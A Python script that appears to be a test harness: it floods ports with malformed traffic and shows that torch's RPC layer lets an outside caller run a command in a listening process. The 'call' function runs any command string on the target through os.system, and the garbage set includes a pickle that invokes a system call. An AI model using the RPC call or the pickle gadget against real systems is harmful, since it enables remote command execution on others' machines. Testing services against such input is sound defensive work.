"""What strangers send to a port; as a program a script that has torch RPC run a command there."""

from __future__ import annotations

import os
import random
import socket
import ssl
import struct
import sys
import time
from contextlib import suppress
from typing import Any

_HELLO = bytes.fromhex("16030101000100010001fc0303")
"""How a client of TLS begins, cut short."""


def garbage() -> dict[str, bytes]:
    """Return bytes that no member would send, by name."""
    dice = random.Random(3)
    return {
        "http": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        "http2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
        "random": dice.randbytes(4096),
        "much": dice.randbytes(1 << 20),
        "zeros": bytes(4096),
        "ones": b"\xff" * 4096,
        "short": b"\x01",
        "length": struct.pack("<Q", 1 << 62),
        "pickle": b"\x80\x04cposix\nsystem\n\x8c\x04true\x85R.",
        "brackets": b"[" * 5000,
        "hello cut short": _HELLO,
        "hello of garbage": _HELLO + dice.randbytes(508),
        "alert": bytes.fromhex("15030300020228"),
    }


def send(host: str, port: int) -> list[socket.socket]:
    """Send all of it to a port, a reset and a TLS client without a certificate; hold the rest."""
    held = []
    for data in garbage().values():
        with suppress(OSError):
            held.append(socket.create_connection((host, port), 5.0))
            held[-1].sendall(data)
    with suppress(OSError), socket.create_connection((host, port), 5.0) as reset:
        reset.sendall(bytes(20))
        reset.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    side = ssl.create_default_context()
    side.check_hostname, side.verify_mode = False, ssl.CERT_NONE
    with suppress(OSError):
        held.append(side.wrap_socket(socket.create_connection((host, port), 5.0)))
        held[-1].sendall(b"\x06\xa5store")
        held[-1].recv(1)
    held += [socket.create_connection((host, port), 5.0) for _ in range(20)]
    return held


def agent(store: Any, name: str, size: int) -> None:
    """Speak torch RPC as one of a group, without waiting for the others."""
    import torch.distributed as dist
    from torch._C._distributed_rpc import TensorPipeAgent, _set_and_start_rpc_agent
    from torch.distributed import rpc
    from torch.distributed.rpc import api

    options = rpc.TensorPipeRpcBackendOptions(_transports=["uv"], _channels=[], rpc_timeout=3)
    dist.autograd._init(0)  # type: ignore[attr-defined]
    own = TensorPipeAgent(store, name, 0, size, options, {}, [])
    _set_and_start_rpc_agent(own)
    api._init_rpc_states(own)


def call(host: str, port: str, command: str) -> None:
    """Have torch RPC run a command in the process that listens at a port."""
    import torch.distributed as dist
    from torch.distributed import rpc

    store = dist.HashStore()  # type: ignore[attr-defined]
    store.set("names/1", "victim")
    store.set("addrs/victim", f"uv://{host}:{port}")
    agent(store, "stranger", 2)
    rpc.rpc_sync("victim", os.system, args=(command,), timeout=3)


def be_victim() -> None:
    """Be a member of torch RPC, and print where."""
    import torch.distributed as dist

    store = dist.HashStore()  # type: ignore[attr-defined]
    agent(store, "victim", 1)
    place = store.get("addrs/victim").decode().removeprefix("uv://")
    print(place.replace(":", " "), flush=True)  # noqa: T201 - it is a program here
    time.sleep(600)


def main() -> None:
    how, *rest = sys.argv[1:]
    if how == "call":
        call(*rest)
    elif how == "victim":
        be_victim()
    else:
        connections = [send(rest[0], int(port)) for port in rest[1:]]
        print([len(some) for some in connections], "are held", flush=True)  # noqa: T201
        time.sleep(600)


if __name__ == "__main__":
    main()
